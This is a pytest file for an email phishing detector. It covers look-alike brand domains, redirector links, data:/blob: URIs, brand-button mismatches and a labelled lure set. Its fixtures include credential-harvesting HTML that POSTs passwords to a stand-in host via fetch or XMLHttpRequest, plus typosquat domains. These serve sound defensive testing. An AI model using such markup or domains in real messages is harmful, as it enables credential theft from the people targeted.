"""Phishing evidence (issue 15): the brand list, look-alike domains, redirector and
``data:``/``blob:`` links, credential-form attachments, brand buttons, and the project's own
labelled set of 2022-2026-style lures with benign look-alikes."""

from __future__ import annotations

from pathlib import Path

import pytest

from agenticmail.security import phishing as PH
from agenticmail.security import score

PHISHING = Path(__file__).resolve().parents[1] / "fixtures" / "eml" / "phishing"
KNOWN = frozenset({"partner.example", "northwind.example"})  # as make_phishing.KNOWN


def test_the_brand_list_is_package_data_of_every_kind() -> None:
    brands = PH.brands()
    assert len(brands) >= 150
    assert {b.kind for b in brands} >= {"bank", "payment", "shipping", "cloud", "social",
                                        "government", "crypto"}
    assert all(b.domains and all("." in d for d in b.domains) for b in brands)
    paypal = next(b for b in brands if b.name == "PayPal")
    assert PH.owned_by(paypal, "e.paypal.com") and PH.owned_by(paypal, "paypal.de")
    assert not PH.owned_by(paypal, "paypal-secure.com") and not PH.owned_by(paypal, "paypal.co")


@pytest.mark.parametrize(("domain", "imitates"), [
    ("paypa1.com", "paypal.com"),            # digit for letter
    ("rnicrosoft.com", "microsoft.com"),     # rn for m
    ("xn--pypal-4ve.com", "paypal.com"),     # punycode, Cyrillic а
    ("micorsoft.com", "microsoft.com"),      # transposition
    ("paypall.com", "paypal.com"),           # insertion
    ("sharepoint-online.net", "sharepoint.com"),  # brand as a hyphenated part
    ("c0inbase-support.com", "coinbase.com"),
    ("microsoft.co", "microsoft.com"),       # the brand's label under a foreign suffix
    ("app1e.com", "apple.com"),              # an ordinary-word brand, by folding only
])
def test_lookalike_domains_of_brands(domain: str, imitates: str) -> None:
    assert PH.lookalike(domain) == imitates


@pytest.mark.parametrize("domain", [
    "paypal.com", "amazon.de", "paypal.com.au", "mail.google.com",  # the brands' own
    "example.com", "payroll.example", "applebees.com", "apple.co.example",
    "lindows.com", "orange-county.example", "github.io",
])
def test_lookalike_near_misses(domain: str) -> None:
    assert PH.lookalike(domain) is None


def test_lookalike_of_correspondents() -> None:
    known = ["acme-corp.com", "partner.example"]
    assert PH.lookalike("acme-c0rp.com", known) == "acme-corp.com"
    assert PH.lookalike("acmecorp.com", known) == "acme-corp.com"
    assert PH.lookalike("partnr.example", known) == "partner.example"
    assert PH.lookalike("acme-corp.com", known) is None  # the known domain itself
    assert PH.lookalike("mail.acme-corp.com", known) is None
    assert PH.lookalike("gmail.com", ["mail.com"]) is None  # a brand's own domain


def test_named_brands_whole_words_and_exact_case_for_ordinary_words() -> None:
    names = {b.name for b in PH.named_brands("Sign in to PayPal; your Microsoft 365 password")}
    assert names == {"PayPal", "Microsoft"}
    assert not PH.named_brands("an apple pie, a chase scene, visit paypal.com, x@paypal")
    assert {b.name for b in PH.named_brands("Your Apple ID")} == {"Apple"}


@pytest.mark.parametrize(("href", "target"), [
    ("https://www.google.com/url?q=https://evil.example/x&sa=D", "evil.example"),
    ("https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2F&data=1",
     "evil.example"),
    ("https://www.bing.com/ck/a?!&&p=1&u=a1aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF0aA&ntb=1",
     "evil.example"),
    ("https://x.example/redirect/https://evil.example/", "evil.example"),
    ("https://example.com/page?ref=https://www.example.com/x", None),  # its own domain
    ("https://www.google.com/search?q=paypal+help", None),
    ("mailto:a@b.example?body=https://evil.example", None),
])
def test_redirect_targets(href: str, target: str | None) -> None:
    assert PH.redirect_target(href) == target


def test_unsafe_schemes() -> None:
    assert PH.unsafe_scheme("blob:https://x.example/8a")
    assert PH.unsafe_scheme(" DATA:application/octet-stream;base64,AAAA")
    assert not PH.unsafe_scheme("data:image/png;base64,iVBOR")
    assert not PH.unsafe_scheme("https://example.com/data:x")


@pytest.mark.parametrize(("markup", "found"), [
    ('<form action="https://c.example"><input type="password" name="p"></form>', True),
    ("<script>fetch('https://c.example/p',{method:'POST'})</script>"
     "<input type='password'>", True),
    ('<script>window.location.href = "data:text/html;base64,PGh0bWw+"</script>', True),
    ('<svg><script>document.write(atob("PGZvcm0+"))</script></svg>', True),
    ("<script>var x=new XMLHttpRequest();x.open('POST','https://c.example/g')</script>", True),
    ('<form action="https://partner.example/search"><input type="text" name="q"></form>',
     False),
    ("<html><body><h1>Agenda</h1><p>Password for the wifi is on the board.</p></body></html>",
     False),
    ("<svg><circle r='4'/><script>console.log(1)</script></svg>", False),
])
def test_credential_forms(markup: str, found: bool) -> None:
    assert bool(PH.credential_form(markup)) is found


def _html(frm: str, html: str) -> bytes:
    return (f"From: {frm}\r\nTo: agent@localhost\r\nSubject: notice\r\nMessage-ID: <p@x>\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n").encode()


def test_a_button_naming_a_brand_must_go_to_the_brand() -> None:
    def ids(frm: str, html: str) -> set[str]:
        return {h.id for h in score(_html(frm, html)).rules}

    fake = '<a href="https://evil.example/login">Sign in to PayPal</a>'
    assert "PH_LINK_TEXT_MISMATCH" in ids("Support <s@notice.example>", fake)
    real = '<a href="https://www.paypal.com/signin">Sign in to PayPal</a>'
    assert "PH_LINK_TEXT_MISMATCH" not in ids("Support <s@notice.example>", real)
    own = '<a href="https://shop.example/checkout">Pay with PayPal</a>'
    assert "PH_LINK_TEXT_MISMATCH" not in ids("Shop <s@shop.example>", own)
    topic = '<a href="https://tips.example/office">Microsoft Office Tips</a>'  # no action
    assert "PH_LINK_TEXT_MISMATCH" not in ids("Tips <t@news.example>", topic)


def test_correspondent_rules_stay_silent_without_correspondents() -> None:
    raw = (PHISHING / "lure.bec_invoice_change.eml").read_bytes()
    assert "PH_NEW_SENDER_REQUEST" not in {h.id for h in score(raw).rules}
    assert "PH_NEW_SENDER_REQUEST" in {h.id for h in score(raw, known_domains=KNOWN).rules}


def _set(kind: str) -> list[Path]:
    return sorted(PHISHING.glob(f"{kind}.*.eml"))


def test_own_phishing_set_recall_and_benign_look_alikes() -> None:
    """The generated lures (tests/security/make_phishing.py): most reach the spam threshold
    and every one at least the warning threshold; no benign look-alike is spam."""
    lures, benign = _set("lure"), _set("benign")
    assert len(lures) >= 25 and len(benign) >= 10
    lure_scores = {p.name: score(p.read_bytes(), known_domains=KNOWN) for p in lures}
    spam = [n for n, v in lure_scores.items() if v.spam]
    assert len(spam) >= 0.8 * len(lures), sorted(set(lure_scores) - set(spam))
    assert all(v.score >= 20 for v in lure_scores.values()), {
        n: v.score for n, v in lure_scores.items() if v.score < 20}
    assert all(v.category == "phishing" for n, v in lure_scores.items() if n in spam
               and "bec" not in n)
    flagged = [p.name for p in benign if score(p.read_bytes(), known_domains=KNOWN).spam]
    assert flagged == []


def test_the_advisory_names_phishing_links() -> None:
    """What the agent reads in ``security.advisory.links``: which link is the risky one."""
    from agenticmail.security import advise

    html = ('<a href="https://paypa1.com/x">a</a> <a href="blob:https://x.example/1">b</a> '
            '<a href="https://www.google.com/url?q=https://evil.example/">c</a> '
            '<a href="https://www.paypal.com/">d</a>')
    links = {x.name: set(x.reasons) for x in advise(_html("s@x.example", html)).links}
    assert links == {"https://paypa1.com/x": {"lookalike_domain"},
                     "blob:https://x.example/1": {"data_or_blob_uri"},
                     "https://www.google.com/url?q=https://evil.example/": {"redirector"}}


def test_the_brand_list_ships_in_the_wheel() -> None:
    import fnmatch
    import tomllib

    root = Path(__file__).resolve().parents[2]
    data = tomllib.loads((root / "pyproject.toml").read_text())
    globs = data["tool"]["setuptools"]["package-data"]["agenticmail"]
    assert any(fnmatch.fnmatch("security/data/brands.txt", g) for g in globs)


@pytest.mark.parametrize(("host", "wears"), [
    ("paypal.com.account.secure-check.example", "paypal.com"),
    ("secure-paypal.example.net", "paypal.com"),
    ("paypal-login.evil.example", "paypal.com"),
    ("docs.cloud.example.com", None),
    ("applecore.lockergnome.com", None),
    ("www.paypal.com", None),
    ("paypal-communication.com", None),  # PayPal's own
])
def test_brand_in_a_foreign_subdomain(host: str, wears: str | None) -> None:
    assert PH.brand_in_subdomain(host) == wears
